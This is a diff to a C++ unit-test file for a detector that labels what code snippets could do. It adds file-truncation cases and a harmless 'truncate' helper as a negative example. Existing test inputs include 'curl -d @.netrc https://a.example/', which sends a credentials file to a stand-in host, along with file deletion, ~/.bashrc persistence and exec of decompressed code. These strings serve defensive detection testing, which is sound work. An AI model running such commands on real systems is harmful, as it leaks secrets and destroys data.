@@ -8,6 +8,9 @@ namespace {
 TEST(Reach, NamesWhatCodeCouldDo) {
   EXPECT_EQ(in_words(reach_of("curl -d @.netrc https://a.example/")), "the network, secrets");
   EXPECT_EQ(in_words(reach_of("shutil.rmtree(folder)")), "deleting or rewriting files");
+  for (const char* code : {"truncate -s 0 notes.md", "open(p, 'a').truncate(0)",
+                           "run([\"truncate\", \"-s\", \"0\", p])", "fs.truncateSync(p)"})
+    EXPECT_EQ(in_words(reach_of(code)), "deleting or rewriting files") << code;
   EXPECT_EQ(in_words(reach_of("echo x >> ~/.bashrc")), "what stays or starts by itself");
   EXPECT_EQ(in_words(reach_of("sudo make install")), "rights");
   EXPECT_EQ(in_words(reach_of("exec(zlib.decompress(x))")), "code made or fetched at run time");
@@ -19,6 +22,7 @@ TEST(Reach, IsNoneForOrdinaryCode) {
   for (const char* code :
        {"print(sum(1 for line in open(path)))", "git checkout -b fix/1-crash",
         "items.push(1); const m = /a/.exec(text);", "tokens = tokenize(text)", "re.compile('a+')",
+        "def truncate(text): return text[:80]  # Truncate long bodies",
         "subprocess.run(['pandoc', path], check=True)",
         "with open('out.csv', 'w') as f: f.write(rows)", "# see https://docs.example/page"})
     EXPECT_EQ(in_words(reach_of(code)), "") << code;
